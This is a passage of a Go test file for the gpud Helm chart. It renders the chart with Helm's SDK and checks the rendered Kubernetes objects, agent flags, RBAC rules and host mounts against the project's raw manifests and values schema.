package test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
	monitoringv1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1"
	"helm.sh/helm/v4/pkg/chart/common"
	chartutil "helm.sh/helm/v4/pkg/chart/common/util"
	"helm.sh/helm/v4/pkg/chart/v2/lint"
	"helm.sh/helm/v4/pkg/chart/v2/lint/support"
	"helm.sh/helm/v4/pkg/chart/v2/loader"
	"helm.sh/helm/v4/pkg/engine"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	resourceapi "k8s.io/api/resource/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/discovery/cached/memory"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/restmapper"

	"github.com/gpud/gpud/internal/manifest"
	"github.com/gpud/gpud/internal/testkit/testwait"
	"github.com/gpud/gpud/pkg/adminapi"
	"github.com/gpud/gpud/pkg/allocator"
	"github.com/gpud/gpud/pkg/jobsim"
	"github.com/gpud/gpud/pkg/mig"
	"github.com/gpud/gpud/pkg/sharingfile"
	"github.com/gpud/gpud/test/k8senv"
)

// The Helm chart (deploy/helm/gpud) is rendered with Helm's own Go SDK
// (loader, values with values.schema.json, template engine, lint), as
// `helm install` does, and every object it renders is decoded strictly
// into its Kubernetes (or Prometheus Operator) type. The agent's args and
// config keys are checked against the real `gpud agent` flags, and the
// chart's DaemonSet, RBAC and DeviceClasses against deploy/daemonset and
// deploy/dra, so the two ways to install cannot drift apart.

const helmChartDir = "../deploy/helm/gpud"

// helmKubeVersion is the cluster version the chart is rendered for: the
// pinned k8s.io modules'.
var helmKubeVersion = common.KubeVersion{Version: "v1.37.2", Major: "1", Minor: "37"}

// helmTemplate renders the chart as release "gpud" in namespace "gpud"
// with values over the chart's defaults, as `helm template` does, and
// returns the YAML templates' output by file. monitoring says whether the
// cluster serves the Prometheus Operator's monitoring.coreos.com/v1.
func helmTemplate(t *testing.T, values map[string]any, monitoring bool) (map[string]string, error) {
	t.Helper()
	return helmTemplateIn(t, "gpud", values, monitoring)
}

// helmTemplateIn is helmTemplate for a release in namespace.
func helmTemplateIn(t *testing.T, namespace string, values map[string]any, monitoring bool) (map[string]string, error) {
	t.Helper()
	ch, err := loader.Load(helmChartDir)
	if err != nil {
		t.Fatalf("load chart: %v", err)
	}
	caps := common.DefaultCapabilities.Copy()
	caps.KubeVersion = helmKubeVersion
	if monitoring {
		caps.APIVersions = append(slices.Clone(caps.APIVersions),
			"monitoring.coreos.com/v1", "monitoring.coreos.com/v1/ServiceMonitor", "monitoring.coreos.com/v1/PrometheusRule")
	}
	vals, err := chartutil.ToRenderValuesWithSchemaValidation(ch, values,
		common.ReleaseOptions{Name: "gpud", Namespace: namespace, Revision: 1, IsInstall: true}, caps, false)
	if err != nil {
		return nil, err
	}
	files, err := engine.Render(ch, vals)
	if err != nil {
		return nil, err
	}
	for name := range files {
		if !strings.HasSuffix(name, ".yaml") {
			delete(files, name) // NOTES.txt, _helpers.tpl
		}
	}
	return files, nil
}

// helmRender is helmTemplate's objects, decoded strictly, keyed
// "<kind>/<name>".
func helmRender(t *testing.T, values map[string]any, monitoring bool) (map[string]runtime.Object, error) {
	t.Helper()
	files, err := helmTemplate(t, values, monitoring)
	if err != nil {
		return nil, err
	}
	objs := map[string]runtime.Object{}
	for _, name := range slices.Sorted(maps.Keys(files)) {
		for i, doc := range bytes.Split([]byte(files[name]), []byte("\n---")) {
			if len(bytes.TrimSpace(stripComments(doc))) == 0 {
				continue
			}
			obj, err := helmDecode(doc)
			if err != nil {
				t.Fatalf("%s doc %d: %v\n%s", name, i, err, doc)
			}
			m := obj.(metav1.Object)
			key := obj.GetObjectKind().GroupVersionKind().Kind + "/" + m.GetName()
			if _, dup := objs[key]; dup {
				t.Fatalf("%s rendered twice", key)
			}
			if ns := m.GetNamespace(); ns != "" && ns != "gpud" {
				t.Errorf("%s in namespace %q, want the release's", key, ns)
			}
			objs[key] = obj
		}
	}
	return objs, nil
}

// stripComments drops whole-line YAML comments (a template that renders
// nothing but its comment is no object).
func stripComments(doc []byte) []byte {
	var out [][]byte
	for _, l := range bytes.Split(doc, []byte("\n")) {
		if !bytes.HasPrefix(bytes.TrimSpace(l), []byte("#")) {
			out = append(out, l)
		}
	}
	return bytes.Join(out, []byte("\n"))
}

// helmDecode decodes one rendered document strictly: Kubernetes kinds
// through internal/manifest, the Prometheus Operator's into its types.
func helmDecode(doc []byte) (runtime.Object, error) {
	js, err := yaml.YAMLToJSON(doc)
	if err != nil {
		return nil, err
	}
	var tm metav1.TypeMeta
	if err := json.Unmarshal(js, &tm); err != nil {
		return nil, err
	}
	var obj runtime.Object
	switch {
	case tm.APIVersion == "monitoring.coreos.com/v1" && tm.Kind == "ServiceMonitor":
		obj = &monitoringv1.ServiceMonitor{}
	case tm.APIVersion == "monitoring.coreos.com/v1" && tm.Kind == "PrometheusRule":
		obj = &monitoringv1.PrometheusRule{}
	default:
		objs, err := manifest.Decode(doc)
		if err != nil {
			return nil, err
		}
		if len(objs) != 1 {
			return nil, fmt.Errorf("%d objects in one document", len(objs))
		}
		obj = objs[0].Object.DeepCopyObject()
	}
	// The API server's strict decoding (internal/manifest's rules).
	if err := manifest.DecodeInto(doc, obj); err != nil {
		return nil, fmt.Errorf("%s: %w", tm.Kind, err)
	}
	return obj, nil
}

func helmMustRender(t *testing.T, values map[string]any, monitoring bool) map[string]runtime.Object {
	t.Helper()
	objs, err := helmRender(t, values, monitoring)
	if err != nil {
		t.Fatalf("render: %v", err)
	}
	return objs
}

// helmAgent returns the agent DaemonSet, its container and its config.
func helmAgent(t *testing.T, objs map[string]runtime.Object) (*appsv1.DaemonSet, corev1.Container, *corev1.ConfigMap) {
	t.Helper()
	ds, ok := objs["DaemonSet/gpud"].(*appsv1.DaemonSet)
	if !ok {
		t.Fatalf("no DaemonSet gpud in %v", slices.Sorted(maps.Keys(objs)))
	}
	cm, ok := objs["ConfigMap/gpud-config"].(*corev1.ConfigMap)
	if !ok {
		t.Fatalf("no ConfigMap gpud-config in %v", slices.Sorted(maps.Keys(objs)))
	}
	return ds, ds.Spec.Template.Spec.Containers[0], cm
}

// helmCheckAgentFlags checks the container's args and config.yaml's keys
// against the flags `gpud agent -h` lists.
func helmCheckAgentFlags(t *testing.T, flags map[string]gpudFlag, c corev1.Container, cm *corev1.ConfigMap) {
	t.Helper()
	if len(c.Args) == 0 || c.Args[0] != "agent" {
		t.Fatalf("args %v: want the agent subcommand first", c.Args)
	}
	helmCheckFlags(t, "agent", flags, c.Args[1:])
	var cfg map[string]any
	if err := yaml.Unmarshal([]byte(cm.Data["config.yaml"]), &cfg); err != nil {
		t.Fatalf("config.yaml: %v", err)
	}
	for k := range cfg {
		if _, ok := flags[k]; !ok {
			t.Errorf("config.yaml key %q is not a gpud agent flag", k)
		}
	}
}

// helmCheckFlags checks args against the flags `gpud <sub> -h` lists.
func helmCheckFlags(t *testing.T, sub string, flags map[string]gpudFlag, args []string) {
	t.Helper()
	for _, a := range args {
		name, _, hasVal := strings.Cut(strings.TrimLeft(a, "-"), "=")
		f, ok := flags[name]
		switch {
		case !strings.HasPrefix(a, "-"):
			t.Errorf("arg %q is not a flag", a)
		case !ok:
			t.Errorf("arg %q: gpud %s has no flag --%s", a, sub, name)
		case !f.bool && !hasVal:
			t.Errorf("arg %q: --%s takes a value; write --%s=<value>", a, name, name)
		}
	}
}

// TestHelmChart renders the chart for the default values and the
// combinations that change what it installs.
func TestHelmChart(t *testing.T) {
	if testing.Short() {
		t.Skip("builds gpud to read its flags")
	}
	flags := gpudFlags(t, buildGpud(t), []string{"agent"})
	layoutsData, err := os.ReadFile("../deploy/examples/mig-layouts.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var layouts map[string]any
	if err := yaml.Unmarshal(layoutsData, &layouts); err != nil {
		t.Fatal(err)
	}
	queuesData, err := os.ReadFile("../deploy/scheduler/examples/queues.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var queues map[string]any
	if err := yaml.Unmarshal(queuesData, &queues); err != nil {
		t.Fatal(err)
	}
	chartMeta, err := loader.Load(helmChartDir)
	if err != nil {
		t.Fatal(err)
	}
	appVersion := chartMeta.Metadata.AppVersion

	tests := []struct {
		name       string
		values     map[string]any
		monitoring bool
		want       []string // objects beyond the agent's DaemonSet, ServiceAccount, ConfigMap
		check      func(t *testing.T, objs map[string]runtime.Object)
	}{
		{
			name: "defaults",
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				ds, c, _ := helmAgent(t, objs)
				if want := "ghcr.io/gpud/gpud:" + appVersion; c.Image != want {
					t.Errorf("image %s, want %s (the chart's appVersion, what make image tags)", c.Image, want)
				}
				if a := ds.Spec.Template.Spec.AutomountServiceAccountToken; a == nil || *a {
					t.Error("device-plugin mode mounts a service account token; the agent needs no API access")
				}
				dash := objs["ConfigMap/gpud-dashboard"].(*corev1.ConfigMap)
				file, _ := os.ReadFile("../deploy/monitoring/gpud-dashboard.json")
				if dash.Labels["grafana_dashboard"] != "1" || dash.Data["gpud-dashboard.json"] != strings.TrimRight(string(file), "\n") {
					t.Errorf("dashboard ConfigMap: labels %v, data equal to deploy/monitoring/gpud-dashboard.json: %v",
						dash.Labels, dash.Data["gpud-dashboard.json"] == string(file))
				}
				svc := objs["Service/gpud-metrics"].(*corev1.Service)
				if !helmSelects(svc.Spec.Selector, ds.Spec.Template.Labels) {
					t.Errorf("Service selector %v does not select the agent's pods %v", svc.Spec.Selector, ds.Spec.Template.Labels)
				}
			},
		},
		{
			name:       "with the Prometheus Operator",
			monitoring: true,
			want:       []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard", "ServiceMonitor/gpud", "PrometheusRule/gpud"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				var want monitoringv1.PrometheusRule
				data, err := os.ReadFile("../deploy/monitoring/prometheusrule.yaml")
				if err != nil {
					t.Fatal(err)
				}
				obj, err := helmDecode(data)
				if err != nil {
					t.Fatal(err)
				}
				want = *obj.(*monitoringv1.PrometheusRule)
				got := objs["PrometheusRule/gpud"].(*monitoringv1.PrometheusRule)
				if !reflect.DeepEqual(got.Spec, want.Spec) {
					t.Error("the chart's PrometheusRule differs from deploy/monitoring/prometheusrule.yaml")
				}
				sm := objs["ServiceMonitor/gpud"].(*monitoringv1.ServiceMonitor)
				svc := objs["Service/gpud-metrics"].(*corev1.Service)
				if !helmSelects(sm.Spec.Selector.MatchLabels, svc.Labels) || len(sm.Spec.Endpoints) != 1 || sm.Spec.Endpoints[0].Port != "metrics" {
					t.Errorf("ServiceMonitor %+v does not scrape the metrics port of Service %v", sm.Spec, svc.Labels)
				}
			},
		},
		{
			name:   "monitoring off",
			values: map[string]any{"service": map[string]any{"enabled": false}, "grafanaDashboard": map[string]any{"enabled": false}},
		},
		{
			name:   "dra",
			values: map[string]any{"mode": "dra"},
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard", "ClusterRole/gpud", "ClusterRoleBinding/gpud",
				"ValidatingAdmissionPolicy/gpud-resourceslices", "ValidatingAdmissionPolicyBinding/gpud-resourceslices",
				"ValidatingAdmissionPolicy/gpud-node-labels", "ValidatingAdmissionPolicyBinding/gpud-node-labels",
				"DeviceClass/gpu.gpud.io", "DeviceClass/mig.gpud.io"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				ds, c, _ := helmAgent(t, objs)
				if !slices.Contains(c.Args, "--kubelet-api=dra") || slices.ContainsFunc(c.Args, func(a string) bool { return strings.Contains(a, "device-plugin") }) {
					t.Errorf("DRA mode args %v", c.Args)
				}
				if a := ds.Spec.Template.Spec.AutomountServiceAccountToken; a == nil || !*a {
					t.Error("DRA mode needs the service account token")
				}
				for _, name := range []string{"gpud-resourceslices", "gpud-node-labels"} {
					p := objs["ValidatingAdmissionPolicy/"+name].(*admissionv1.ValidatingAdmissionPolicy)
					if !strings.Contains(p.Spec.MatchConditions[0].Expression, `"system:serviceaccount:gpud:gpud"`) {
						t.Errorf("%s matches %q, want the agent's service account gpud/gpud", name, p.Spec.MatchConditions[0].Expression)
					}
				}
			},
		},
		{
			name:   "device-plugin with node labels",
			values: map[string]any{"agent": map[string]any{"nodeLabels": true}},
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard", "ClusterRole/gpud", "ClusterRoleBinding/gpud",
				"ValidatingAdmissionPolicy/gpud-node-labels", "ValidatingAdmissionPolicyBinding/gpud-node-labels"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				ds, c, _ := helmAgent(t, objs)
				for _, want := range []string{"--node-labels=true", "--node-name=$(NODE_NAME)", "--device-plugin-dir=/var/lib/kubelet/device-plugins"} {
					if !slices.Contains(c.Args, want) {
						t.Errorf("args %v lack %s", c.Args, want)
					}
				}
				if a := ds.Spec.Template.Spec.AutomountServiceAccountToken; a == nil || !*a {
					t.Error("node labels need the service account token")
				}
				role := objs["ClusterRole/gpud"].(*rbacv1.ClusterRole)
				if len(role.Rules) != 2 || !slices.Equal(role.Rules[0].Resources, []string{"nodes"}) || !slices.Equal(role.Rules[0].Verbs, []string{"get", "patch"}) ||
					!slices.Equal(role.Rules[1].APIGroups, []string{"events.k8s.io"}) || !slices.Equal(role.Rules[1].Resources, []string{"events"}) || !slices.Equal(role.Rules[1].Verbs, []string{"create", "patch"}) {
					t.Errorf("ClusterRole rules %+v, want get and patch nodes, create and patch events.k8s.io events only", role.Rules)
				}
			},
		},
		{
			name:       "scheduler",
			values:     map[string]any{"mode": "dra", "scheduler": map[string]any{"enabled": true, "queues": queues}},
			monitoring: true,
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard", "ServiceMonitor/gpud", "PrometheusRule/gpud",
				"ClusterRole/gpud", "ClusterRoleBinding/gpud",
				"ValidatingAdmissionPolicy/gpud-resourceslices", "ValidatingAdmissionPolicyBinding/gpud-resourceslices",
				"ValidatingAdmissionPolicy/gpud-node-labels", "ValidatingAdmissionPolicyBinding/gpud-node-labels",
				"DeviceClass/gpu.gpud.io", "DeviceClass/mig.gpud.io",
				"ServiceAccount/gpud-scheduler", "ClusterRole/gpud-scheduler", "ClusterRoleBinding/gpud-scheduler",
				"Role/gpud-scheduler-leader-election", "RoleBinding/gpud-scheduler-leader-election", "ConfigMap/gpud-scheduler-queues",
				"Role/gpud-scheduler-runtimes", "RoleBinding/gpud-scheduler-runtimes",
				"Deployment/gpud-scheduler", "Service/gpud-scheduler-metrics", "ServiceMonitor/gpud-scheduler",
				"ValidatingAdmissionPolicy/gpud-queue-namespace-label", "ValidatingAdmissionPolicyBinding/gpud-queue-namespace-label",
				"ClusterRole/gpud-queue-admin", "ClusterRole/gpud-queue-reader", "ClusterRoleBinding/gpud-queue-reader"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				d := objs["Deployment/gpud-scheduler"].(*appsv1.Deployment)
				c := d.Spec.Template.Spec.Containers[0]
				schedFlags := gpudFlags(t, buildGpud(t), []string{"scheduler"})
				if len(c.Args) == 0 || c.Args[0] != "scheduler" {
					t.Fatalf("scheduler args %v: want the scheduler subcommand first", c.Args)
				}
				helmCheckFlags(t, "scheduler", schedFlags, c.Args[1:])
				if !slices.Contains(c.Args, "--queues=/etc/gpud-scheduler/queues.yaml") {
					t.Errorf("args %v lack the queue file", c.Args)
				}
				cm := objs["ConfigMap/gpud-scheduler-queues"].(*corev1.ConfigMap)
				if qs, _, err := jobsim.ParseQueueFile([]byte(cm.Data["queues.yaml"]), "queues.yaml"); err != nil || len(qs) == 0 {
					t.Errorf("queues.yaml: %d queues, %v\n%s", len(qs), err, cm.Data["queues.yaml"])
				}
				if d.Spec.Template.Spec.ServiceAccountName != "gpud-scheduler" || !helmSelects(d.Spec.Selector.MatchLabels, d.Spec.Template.Labels) {
					t.Errorf("Deployment runs as %q, selector %v, pod labels %v", d.Spec.Template.Spec.ServiceAccountName, d.Spec.Selector.MatchLabels, d.Spec.Template.Labels)
				}
				agent := objs["DaemonSet/gpud"].(*appsv1.DaemonSet)
				if helmSelects(agent.Spec.Selector.MatchLabels, d.Spec.Template.Labels) || helmSelects(d.Spec.Selector.MatchLabels, agent.Spec.Template.Labels) {
					t.Error("the agent's and the scheduler's selectors overlap")
				}
			},
		},
		{
			name: "enforcement and MPS",
			values: map[string]any{"agent": map[string]any{
				"enforcement": map[string]any{"hostMounts": true, "cpuAffinity": "align", "nriSocket": "/run/containerd/nri/nri.sock"},
				"mps":         map[string]any{"driverRoot": "/run/nvidia/driver", "root": "/var/lib/gpud-mps"},
			}},
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				ds, c, _ := helmAgent(t, objs)
				for _, want := range []string{"--cpu-affinity=align", "--nri-socket=/run/containerd/nri/nri.sock", "--driver-root=/driver-root", "--mps-root=/var/lib/gpud-mps"} {
					if !slices.Contains(c.Args, want) {
						t.Errorf("args %v lack %s", c.Args, want)
					}
				}
				for _, a := range c.Args {
					if strings.HasPrefix(a, "--isolate-devices") || strings.HasPrefix(a, "--container-logs-root") || strings.HasPrefix(a, "--mps=") {
						t.Errorf("arg %s passed at the agent's default", a)
					}
				}
				helmCheckHostMounts(t, ds, c, map[string]helmHostMount{
					"/sys/fs/cgroup":                 {host: "/sys/fs/cgroup"},
					"/var/log/containers":            {host: "/var/log/containers", readOnly: true},
					"/run/containerd/nri":            {host: "/run/containerd/nri"},
					"/driver-root":                   {host: "/run/nvidia/driver", readOnly: true},
					"/var/lib/gpud-mps":              {host: "/var/lib/gpud-mps"},
					"/var/lib/kubelet/pod-resources": {host: "/var/lib/kubelet/pod-resources", readOnly: true},
				})
				if sc := c.SecurityContext; sc == nil || sc.Privileged == nil || !*sc.Privileged {
					t.Error("enforcement needs CAP_BPF and CAP_SYS_ADMIN: the agent must stay privileged")
				}
			},
		},
		{
			name: "enforcement off",
			values: map[string]any{"agent": map[string]any{
				"enforcement": map[string]any{"hostMounts": true, "isolateDevices": false, "nriSocket": "", "containerLogsRoot": "/srv/logs/containers"},
				"mps":         map[string]any{"enabled": false},
			}},
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				ds, c, _ := helmAgent(t, objs)
				for _, want := range []string{"--isolate-devices=false", "--nri-socket=", "--container-logs-root=/srv/logs/containers", "--mps=false"} {
					if !slices.Contains(c.Args, want) {
						t.Errorf("args %v lack %s", c.Args, want)
					}
				}
				helmCheckHostMounts(t, ds, c, map[string]helmHostMount{"/srv/logs/containers": {host: "/srv/logs/containers", readOnly: true}})
				for _, m := range c.VolumeMounts {
					if m.Name == "nri" || m.Name == "driver-root" || m.Name == "mps-root" {
						t.Errorf("mount %s (%s) without its value", m.Name, m.MountPath)
					}
				}
			},
		},
		{
			name: "sharing and MIG layouts",
			values: map[string]any{"agent": map[string]any{
				"sharing":    map[string]any{"devices": map[string]any{"7": map[string]any{"replicas": 4, "limitMemory": true}}},
				"migLayouts": layouts, "migConfig": "mixed", "migStrategy": "single", "enforceMemory": "kill",
			}},
			want: []string{"Service/gpud-metrics", "ConfigMap/gpud-dashboard"},
			check: func(t *testing.T, objs map[string]runtime.Object) {
				_, _, cm := helmAgent(t, objs)
				cfg, err := sharingfile.ParseConfig([]byte(cm.Data["sharing.yaml"]))
				if err != nil {
					t.Fatalf("sharing.yaml: %v\n%s", err, cm.Data["sharing.yaml"])
				}
				if d, ok := cfg.Devices["7"]; !ok || d.Replicas != 4 || !d.LimitMemory {
					t.Errorf("sharing.yaml = %+v, want GPU 7 in 4 replicas with memory limits", cfg)
				}
				lf, err := mig.ParseLayoutFile([]byte(cm.Data["mig-layouts.yaml"]))
				if err != nil {
					t.Fatalf("mig-layouts.yaml: %v", err)
				}
				if _, ok := lf.MigConfigs["mixed"]; !ok {
					t.Errorf("mig-layouts.yaml has no layout mixed")
				}
				var conf map[string]any
				if err := yaml.Unmarshal([]byte(cm.Data["config.yaml"]), &conf); err != nil {
					t.Fatalf("config.yaml: %v", err)
				}
				for key, want := range map[string]string{"mig-config-file": "/etc/gpud/mig-layouts.yaml", "mig-config": "mixed", "mig-strategy": "single", "enforce-memory": "kill"} {
					if got := fmt.Sprint(conf[key]); got != want {
						t.Errorf("config.yaml %s: %q, want %q:\n%s", key, got, want, cm.Data["config.yaml"])
					}
				}
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			objs := helmMustRender(t, tc.values, tc.monitoring)
			want := append([]string{"DaemonSet/gpud", "ServiceAccount/gpud", "ConfigMap/gpud-config"}, tc.want...)
			sort.Strings(want)
			if got := slices.Sorted(maps.Keys(objs)); !slices.Equal(got, want) {
				t.Errorf("rendered %v, want %v", got, want)
			}
			ds, c, cm := helmAgent(t, objs)
			helmCheckAgentFlags(t, flags, c, cm)
			if _, err := sharingfile.ParseConfig([]byte(cm.Data["sharing.yaml"])); err != nil {
				t.Errorf("sharing.yaml: %v", err)
			}
			if sa := ds.Spec.Template.Spec.ServiceAccountName; objs["ServiceAccount/"+sa] == nil {
				t.Errorf("DaemonSet runs as %q, which the chart does not create", sa)
			}
			if !helmSelects(ds.Spec.Selector.MatchLabels, ds.Spec.Template.Labels) {
				t.Errorf("DaemonSet selector %v does not select its pods %v", ds.Spec.Selector.MatchLabels, ds.Spec.Template.Labels)
			}
			if tc.check != nil {
				tc.check(t, objs)
			}
		})
	}
}

// helmHostMount is where a container path comes from on the host.
type helmHostMount struct {
	host     string
	readOnly bool
}

// helmCheckHostMounts checks that each container path in want is mounted
// from its host path, read-only where want says so.
func helmCheckHostMounts(t *testing.T, ds *appsv1.DaemonSet, c corev1.Container, want map[string]helmHostMount) {
	t.Helper()
	vols := map[string]*corev1.HostPathVolumeSource{}
	for _, v := range ds.Spec.Template.Spec.Volumes {
		vols[v.Name] = v.HostPath
	}
	got := map[string]helmHostMount{}
	for _, m := range c.VolumeMounts {
		if hp := vols[m.Name]; hp != nil {
			got[m.MountPath] = helmHostMount{host: hp.Path, readOnly: m.ReadOnly}
		}
	}
	for path, w := range want {
		if g, ok := got[path]; !ok || g != w {
			t.Errorf("%s: mounted from %+v (present %v), want %+v", path, g, ok, w)
		}
	}
}

func helmSelects(sel, labels map[string]string) bool {
	if len(sel) == 0 {
		return false
	}
	for k, v := range sel {
		if labels[k] != v {
			return false
		}
	}
	return true
}

// helmManifest decodes one object of a deploy/ manifest file by kind/name.
func helmManifest(t *testing.T, path, key string) runtime.Object {
	t.Helper()
	docs, err := manifest.DecodeFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range docs {
		if d.Object.GetObjectKind().GroupVersionKind().Kind+"/"+d.Object.(metav1.Object).GetName() == key {
			return d.Object
		}
	}
	t.Fatalf("%s: no %s", path, key)
	return nil
}

// TestHelmChartMatchesManifests: the chart's agent equals deploy/daemonset's
// (device-plugin) and deploy/dra's (dra) in everything that runs it, and
// its DRA RBAC, admission policies and DeviceClasses equal deploy/dra's
// (names aside).
func TestHelmChartMatchesManifests(t *testing.T) {
	for _, tc := range []struct {
		mode, daemonset, name string
	}{
		{mode: "device-plugin", daemonset: "../deploy/daemonset/daemonset.yaml", name: "DaemonSet/gpud"},
		{mode: "dra", daemonset: "../deploy/dra/daemonset.yaml", name: "DaemonSet/gpud-dra"},
	} {
		t.Run(tc.mode, func(t *testing.T) {
			objs := helmMustRender(t, map[string]any{"mode": tc.mode}, false)
			chartDS, got, chartCM := helmAgent(t, objs)
			rawDS := helmManifest(t, tc.daemonset, tc.name).(*appsv1.DaemonSet)
			want := rawDS.Spec.Template.Spec.Containers[0]
			repo := func(image string) string { r, _, _ := strings.Cut(image, ":"); return r }
			if repo(got.Image) != repo(want.Image) {
				t.Errorf("image %s, %s has %s", got.Image, tc.daemonset, want.Image)
			}
			// The ConfigMap's name differs by design (the release's).
			for _, f := range []struct {
				name      string
				got, want any
			}{
				{"args", got.Args, want.Args},
				{"env", got.Env, want.Env},
				{"ports", got.Ports, want.Ports},
				{"volumeMounts", got.VolumeMounts, want.VolumeMounts},
				{"securityContext", got.SecurityContext, want.SecurityContext},
				{"resources", got.Resources, want.Resources},
				{"livenessProbe", got.LivenessProbe, want.LivenessProbe},
				{"readinessProbe", got.ReadinessProbe, want.ReadinessProbe},
				{"volumes", helmVolumes(chartDS), helmVolumes(rawDS)},
				{"hostPID", chartDS.Spec.Template.Spec.HostPID, rawDS.Spec.Template.Spec.HostPID},
				{"automountServiceAccountToken", chartDS.Spec.Template.Spec.AutomountServiceAccountToken, rawDS.Spec.Template.Spec.AutomountServiceAccountToken},
				{"nodeSelector", chartDS.Spec.Template.Spec.NodeSelector, rawDS.Spec.Template.Spec.NodeSelector},
				{"affinity", chartDS.Spec.Template.Spec.Affinity, rawDS.Spec.Template.Spec.Affinity},
				{"terminationMessagePath", got.TerminationMessagePath, want.TerminationMessagePath},
				{"tolerations", chartDS.Spec.Template.Spec.Tolerations, rawDS.Spec.Template.Spec.Tolerations},
				{"runtimeClassName", chartDS.Spec.Template.Spec.RuntimeClassName, rawDS.Spec.Template.Spec.RuntimeClassName},
				{"priorityClassName", chartDS.Spec.Template.Spec.PriorityClassName, rawDS.Spec.Template.Spec.PriorityClassName},
				{"updateStrategy", chartDS.Spec.UpdateStrategy, rawDS.Spec.UpdateStrategy},
			} {
				if !reflect.DeepEqual(f.got, f.want) {
					gj, _ := json.Marshal(f.got)
					wj, _ := json.Marshal(f.want)
					t.Errorf("%s differs from %s:\nchart: %s\nfile:  %s", f.name, tc.daemonset, gj, wj)
				}
			}
			// The raw ConfigMap's settings are the chart's defaults.
			rawCM := helmManifest(t, "../deploy/daemonset/configmap.yaml", "ConfigMap/gpud-config").(*corev1.ConfigMap)
			var chartCfg, rawCfg map[string]any
			_ = yaml.Unmarshal([]byte(chartCM.Data["config.yaml"]), &chartCfg)
			if err := yaml.Unmarshal([]byte(rawCM.Data["config.yaml"]), &rawCfg); err != nil {
				t.Fatal(err)
			}
			for k, v := range rawCfg {
				if fmt.Sprint(chartCfg[k]) != fmt.Sprint(v) {
					t.Errorf("config.yaml %s: chart %v, deploy/daemonset/configmap.yaml %v", k, chartCfg[k], v)
				}
			}
			if tc.mode != "dra" {
				return
			}
			rawRole := helmManifest(t, "../deploy/dra/rbac.yaml", "ClusterRole/gpud-dra").(*rbacv1.ClusterRole)
			if got := objs["ClusterRole/gpud"].(*rbacv1.ClusterRole).Rules; !reflect.DeepEqual(got, rawRole.Rules) {
				t.Errorf("ClusterRole rules %+v, deploy/dra/rbac.yaml %+v", got, rawRole.Rules)
			}
			for chartName, rawName := range map[string]string{"gpud-resourceslices": "gpud-dra-resourceslices", "gpud-node-labels": "gpud-dra-node-labels"} {
				got := objs["ValidatingAdmissionPolicy/"+chartName].(*admissionv1.ValidatingAdmissionPolicy).Spec
				want := helmManifest(t, "../deploy/dra/rbac.yaml", "ValidatingAdmissionPolicy/"+rawName).(*admissionv1.ValidatingAdmissionPolicy).Spec
				// Only the service account differs: the release's.
				for i := range want.MatchConditions {
					want.MatchConditions[i].Name = strings.ReplaceAll(want.MatchConditions[i].Name, "gpud-dra", "gpud-agent")
					want.MatchConditions[i].Expression = strings.ReplaceAll(want.MatchConditions[i].Expression, "gpud:gpud-dra", "gpud:gpud")
				}
				if !reflect.DeepEqual(got, want) {
					gj, _ := json.Marshal(got)
					wj, _ := json.Marshal(want)
					t.Errorf("ValidatingAdmissionPolicy %s differs from deploy/dra's %s:\nchart: %s\nfile:  %s", chartName, rawName, gj, wj)
				}
			}
			for _, class := range []string{"gpu.gpud.io", "mig.gpud.io"} {
				got := objs["DeviceClass/"+class].(*resourceapi.DeviceClass).Spec
				want := helmManifest(t, "../deploy/dra/deviceclasses.yaml", "DeviceClass/"+class).(*resourceapi.DeviceClass).Spec
				if !reflect.DeepEqual(got, want) {
					t.Errorf("DeviceClass %s differs from deploy/dra/deviceclasses.yaml", class)
				}
			}
		})
	}
}

// helmVolumes is a DaemonSet's volumes with the ConfigMap's name left out
// (the chart names it after the release).
func helmVolumes(ds *appsv1.DaemonSet) []corev1.Volume {
	out := slices.Clone(ds.Spec.Template.Spec.Volumes)
	for i := range out {
		if out[i].ConfigMap != nil {
			cm := *out[i].ConfigMap
			cm.Name = "<release>-config"
			out[i].ConfigMap = &cm
		}
	}
	return out
}

// TestHelmValuesSchema: a wrong value fails the install with a message
// naming it.
func TestHelmValuesSchema(t *testing.T) {
	for _, tc := range []struct {
		name   string
		values map[string]any
		want   string // in the error
	}{
		{name: "unknown mode", values: map[string]any{"mode": "gpu-operator"}, want: "/mode"},
		{name: "memory enforcement", values: map[string]any{"agent": map[string]any{"enforceMemory": "always"}}, want: "/agent/enforceMemory"},
		{name: "MIG strategy", values: map[string]any{"agent": map[string]any{"migStrategy": "both"}}, want: "/agent/migStrategy"},
		{name: "misspelt key", values: map[string]any{"agent": map[string]any{"migStrategyy": "mixed"}}, want: "migStrategyy"},
		{name: "duration", values: map[string]any{"agent": map[string]any{"sampleInterval": "5 seconds"}}, want: "/agent/sampleInterval"},
		{name: "xids", values: map[string]any{"agent": map[string]any{"healthIgnoreXids": "13;31"}}, want: "/agent/healthIgnoreXids"},
